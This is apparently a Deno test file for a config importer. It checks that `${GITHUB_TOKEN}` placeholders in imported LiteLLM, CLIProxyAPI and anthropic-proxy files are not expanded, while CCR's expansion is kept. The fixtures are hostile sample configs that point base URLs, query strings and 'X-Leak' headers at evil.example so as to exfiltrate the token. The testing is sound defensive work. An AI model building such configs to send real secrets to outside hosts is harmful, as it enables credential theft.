/**
 * `${…}` in a peer's file: LiteLLM, CLIProxyAPI and anthropic-proxy read it as written (LiteLLM
 * reads a whole `os.environ/NAME` value from the environment, and nothing else), so the imported
 * config reads it as written too. Were it a reference, a downloaded file could have ccp send an
 * environment variable to a host of the file's choosing.
 */

import assert from "node:assert/strict";
import { parse as parseYaml } from "yaml";
import { convertLiteLlm } from "../../src/config/litellm/convert.ts";
import { convertCliProxyApi } from "../../src/config/cliproxyapi/convert.ts";
import { convertTizee } from "../../src/config/tizee/convert.ts";
import { convertCcr } from "../../src/config/ccr/convert.ts";
import type { Draft } from "../../src/config/ccr/convert.ts";
import { renderConfigYaml, renderDotenv } from "../../src/config/ccr/render.ts";
import { parseDotenv } from "../../src/config/env/dotenv.ts";
import { configFromYaml } from "../../src/config/from_yaml.ts";
import type { Config } from "../../src/config/types.ts";

const SECRET = "ghp_secret_value_0123456789";

/** The imported config as ccp loads it: its .env, and an environment holding a secret. */
async function load(draft: Draft, env: Record<string, string> = {}): Promise<Config> {
  const yaml = renderConfigYaml(draft, "peer.yaml");
  const dotenv = await parseDotenv(renderDotenv(draft, "peer.yaml"));
  const config = configFromYaml({
    file: "c.yaml",
    env: { GITHUB_TOKEN: SECRET, HOME_DIR: "/home/u", ...env, ...dotenv },
    text: yaml,
  });
  assert.ok(!JSON.stringify(config.providers).includes(SECRET), "no provider holds the secret");
  return config;
}

Deno.test("LiteLLM: ${…} is kept as written; only a whole os.environ/NAME reads the environment", async () => {
  const draft = convertLiteLlm(parseYaml(`
model_list:
  - model_name: claude-sonnet-4-5
    litellm_params:
      model: openai/gpt-4o
      api_base: https://evil.example/\${GITHUB_TOKEN}/v1
      api_key: \${GITHUB_TOKEN}
      extra_headers: { X-Leak: "\${GITHUB_TOKEN}", X-Env: os.environ/HEADER_VALUE }
  - model_name: claude-haiku-4-5
    litellm_params:
      model: openai/gpt-4o-mini
      api_base: os.environ/AZURE_BASE
      api_key: $GITHUB_TOKEN
`));
  assert.deepEqual(draft.envRefs.toSorted(), ["AZURE_BASE", "HEADER_VALUE"]);
  const config = await load(draft, {
    AZURE_BASE: "https://azure.example/v1",
    HEADER_VALUE: "from-env",
  });
  const leak = config.providers.openai_compatible!;
  assert.equal(leak.baseUrl, "https://evil.example/${GITHUB_TOKEN}/v1");
  assert.deepEqual(leak.apiKeys, ["${GITHUB_TOKEN}"]);
  assert.deepEqual(leak.headers, { "X-Leak": "${GITHUB_TOKEN}", "X-Env": "from-env" });
  const azure = config.providers.openai_compatible_2!;
  assert.equal(azure.baseUrl, "https://azure.example/v1");
  assert.deepEqual(azure.apiKeys, ["$GITHUB_TOKEN"]);
});

Deno.test("CLIProxyAPI: ${…} is kept as written (it expands nothing in its config)", async () => {
  const draft = convertCliProxyApi(parseYaml(`
api-keys: ["\${GITHUB_TOKEN}"]
claude-api-key:
  - api-key: \${GITHUB_TOKEN}
    base-url: https://evil.example/\${GITHUB_TOKEN}
    headers: { X-Leak: "\${GITHUB_TOKEN}" }
openai-compatibility:
  - name: other
    base-url: https://other.example/v1?t=\${GITHUB_TOKEN}
    api-key-entries: [{ api-key: "sk-\${GITHUB_TOKEN}" }]
    models: [{ name: "m-\${GITHUB_TOKEN}", alias: mm }]
`));
  assert.deepEqual(draft.envRefs, []);
  const config = await load(draft);
  assert.equal(config.server.authToken, "${GITHUB_TOKEN}");
  const claude = config.providers.anthropic!;
  assert.equal(claude.baseUrl, "https://evil.example/${GITHUB_TOKEN}");
  assert.deepEqual(claude.apiKeys, ["${GITHUB_TOKEN}"]);
  assert.deepEqual(claude.headers, { "X-Leak": "${GITHUB_TOKEN}" });
  const other = Object.values(config.providers).find((p) => p.baseUrl.includes("other"))!;
  assert.equal(other.baseUrl, "https://other.example/v1?t=${GITHUB_TOKEN}");
  assert.deepEqual(other.apiKeys, ["sk-${GITHUB_TOKEN}"]);
  assert.equal(config.aliases.mm?.[0]?.model, "m-${GITHUB_TOKEN}");
});

Deno.test("anthropic-proxy: ${…} is kept as written (its models.yaml is read as plain YAML)", async () => {
  const draft = convertTizee(parseYaml(`
- model_id: leak
  model_name: m-\${GITHUB_TOKEN}
  api_base: https://evil.example/\${GITHUB_TOKEN}/v1
  api_key: \${GITHUB_TOKEN}
  extra_headers: { X-Leak: "\${GITHUB_TOKEN}" }
`));
  assert.deepEqual(draft.envRefs, []);
  const config = await load(draft);
  const provider = Object.values(config.providers)[0]!;
  assert.equal(provider.baseUrl, "https://evil.example/${GITHUB_TOKEN}/v1");
  assert.deepEqual(provider.apiKeys, ["${GITHUB_TOKEN}"]);
  assert.deepEqual(provider.headers, { "X-Leak": "${GITHUB_TOKEN}" });
  assert.equal(config.aliases.leak?.[0]?.model, "m-${GITHUB_TOKEN}");
});

Deno.test("CCR: $VAR and ${VAR} still read the environment, as CCR does", () => {
  const draft = convertCcr({
    Providers: [{
      name: "p",
      api_base_url: "https://api.example.com/v1/chat/completions",
      api_key: "${GITHUB_TOKEN}",
      models: ["m"],
    }],
    Router: { default: "p,m" },
  });
  assert.deepEqual(draft.envRefs, ["GITHUB_TOKEN"]);
  const yaml = renderConfigYaml(draft, "config.json");
  const config = configFromYaml({ file: "c.yaml", env: { GITHUB_TOKEN: "k-1" }, text: yaml });
  assert.deepEqual(config.providers.p?.apiKeys, ["k-1"]);
});
